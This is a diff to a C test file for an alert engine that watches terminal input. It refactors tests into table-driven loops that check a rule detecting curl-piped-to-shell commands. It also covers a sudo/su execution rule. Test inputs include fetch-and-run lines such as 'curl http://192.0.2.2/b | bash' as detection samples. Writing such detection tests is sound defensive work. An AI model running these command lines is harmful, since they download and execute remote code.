@@ -300,6 +300,18 @@ static void test_lines(void)
 	free(hs);
 }
 
+/* An engine with these rules, its hits counted in *hs. */
+static struct ta_alert_engine *engine_with(const char *rules, struct hits **hs)
+{
+	struct ta_alert_engine *e = NULL;
+	char err[512];
+
+	*hs = calloc(1, sizeof(**hs));
+	CHECK(*hs && ta_alert_engine_new(&e, on_hit, *hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	return e;
+}
+
 /*
  * Typed lines are edited as readline edits them: the line matched is the
  * one the shell ran, and where the engine cannot follow (history, search,
@@ -328,12 +340,9 @@ static void test_line_editing(void)
 		{ "a     b", "a b", false },                        /* blanks matched as one */
 	};
 	static const char rules[] = "rule = any\non = input\nline = .\nrate = 1000/1s\n";
-	struct hits *hs = calloc(1, sizeof(*hs));
-	struct ta_alert_engine *e;
-	char err[512];
+	struct hits *hs;
+	struct ta_alert_engine *e = engine_with(rules, &hs);
 
-	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
-	ta_alert_engine_set_rules(e, parse(rules, err));
 	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		hs->n = 0;
 		feed(e, TA_EV_TTY_INPUT, cases[i].keys, 1, 10 + i);
@@ -355,39 +364,32 @@ static void test_line_editing(void)
  */
 static void test_line_joining(void)
 {
+	static const struct { const char *keys; int hits; const char *subject; } steps[] = {
+		{ "false && curl http://192.0.2.2/b |\r", 0, NULL },
+		{ "bash\r", 1, "false && curl http://192.0.2.2/b | bash" },
+		{ "bash\r", 1, NULL },                       /* the next command: no continuation */
+		/* a backslash is removed with the newline; && and || carry on; several lines */
+		{ "true ||\rtrue &&\rcu\\\rrl x |\\\rs\\\rh\r", 2, "true || true && curl x |sh" },
+		/* an open quote goes on; a | in quotes or in a comment does not */
+		{ "curl 'x\r' | sh\r", 3, "curl 'x\n' | sh" },
+		{ "curl x '|'\rsh\r", 3, NULL },
+		{ "curl x # |\rsh\r", 3, NULL },
+		{ "curl x | sh |\rcat\r", 4, NULL },          /* matched alone: not again joined */
+		{ "curl x |\r\x03sh\r", 4, NULL },            /* ^C abandons the command */
+	};
 	static const char rules[] = "rule = pipe\non = input\n"
 				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\nrate = 1000/1s\n";
-	struct hits *hs = calloc(1, sizeof(*hs));
-	struct ta_alert_engine *e;
-	char err[512];
+	struct hits *hs;
+	struct ta_alert_engine *e = engine_with(rules, &hs);
 
-	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
-	ta_alert_engine_set_rules(e, parse(rules, err));
-	feed(e, TA_EV_TTY_INPUT, "false && curl http://192.0.2.2/b |\r", 1, 1);
-	CHECK_EQ_INT(hs->n, 0);
-	feed(e, TA_EV_TTY_INPUT, "bash\r", 1, 2);
-	CHECK_EQ_INT(hs->n, 1);
-	CHECK_EQ_STR(hs->subject[0], "false && curl http://192.0.2.2/b | bash");
-	/* the next command is no continuation */
-	feed(e, TA_EV_TTY_INPUT, "bash\r", 1, 3);
-	CHECK_EQ_INT(hs->n, 1);
-	/* a backslash is removed with the newline; && and || carry on; several lines */
-	feed(e, TA_EV_TTY_INPUT, "true ||\rtrue &&\rcu\\\rrl x |\\\r", 1, 4);
-	feed(e, TA_EV_TTY_INPUT, "s\\\rh\r", 1, 5);
-	CHECK_EQ_INT(hs->n, 2);
-	CHECK_EQ_STR(hs->subject[1], "true || true && curl x |sh");
-	/* an open quote goes on; a | in quotes or in a comment does not */
-	feed(e, TA_EV_TTY_INPUT, "curl 'x\r' | sh\r", 1, 6);
-	CHECK_EQ_INT(hs->n, 3);
-	feed(e, TA_EV_TTY_INPUT, "curl x '|'\rsh\r", 1, 7);
-	feed(e, TA_EV_TTY_INPUT, "curl x # |\rsh\r", 1, 8);
-	CHECK_EQ_INT(hs->n, 3);
-	/* matched on its own already: not again when joined */
-	feed(e, TA_EV_TTY_INPUT, "curl x | sh |\rcat\r", 1, 9);
-	CHECK_EQ_INT(hs->n, 4);
-	/* ^C abandons the command */
-	feed(e, TA_EV_TTY_INPUT, "curl x |\r\x03sh\r", 1, 10);
-	CHECK_EQ_INT(hs->n, 4);
+	for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
+		feed(e, TA_EV_TTY_INPUT, steps[i].keys, 1, 1 + i);
+		if (hs->n != steps[i].hits)
+			fprintf(stderr, "step %zu: %d hits, wanted %d\n", i, hs->n, steps[i].hits);
+		CHECK_EQ_INT(hs->n, steps[i].hits);
+		if (steps[i].subject && hs->n)
+			CHECK_EQ_STR(hs->subject[hs->n - 1], steps[i].subject);
+	}
 	ta_alert_engine_free(e);
 	free(hs);
 }
@@ -400,12 +402,10 @@ static void test_long_lines(void)
 {
 	static const char rules[] = "rule = pipe\non = input\n"
 				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\n";
-	struct hits *hs = calloc(1, sizeof(*hs));
-	struct ta_alert_engine *e;
-	char err[512], *big = malloc(3 * TA_ALERT_LINE_MAX);
+	struct hits *hs;
+	struct ta_alert_engine *e = engine_with(rules, &hs);
+	char *big = malloc(3 * TA_ALERT_LINE_MAX);
 
-	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
-	ta_alert_engine_set_rules(e, parse(rules, err));
 	/* 1100 spaces before the command: matched, and not cut */
 	memset(big, ' ', 1100);
 	strcpy(big + 1100, "false && curl http://192.0.2.2/b | bash\r");
@@ -619,14 +619,11 @@ static void test_rate_per_person(void)
 {
 	static const char rules[] = "rule = priv\non = exec\npath = (^|/)(sudo|su)$\n"
 				    "rule = slow\non = exec\npath = (^|/)slow$\nrate = 1/1h\n";
-	struct hits *hs = calloc(1, sizeof(*hs));
-	struct ta_alert_engine *e;
+	struct hits *hs;
+	struct ta_alert_engine *e = engine_with(rules, &hs);
 	struct ta_alert_stats st;
-	char err[512];
 	uint64_t s = 1000000000ull;
 
-	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
-	ta_alert_engine_set_rules(e, parse(rules, err));
 	for (int i = 0; i < 12; i++)
 		feed_exec_at(e, "/home/u1/sudo", "/home/u1/sudo\0", 14, 1001, 1001, 11,
 			     100 * s + (uint64_t)i);
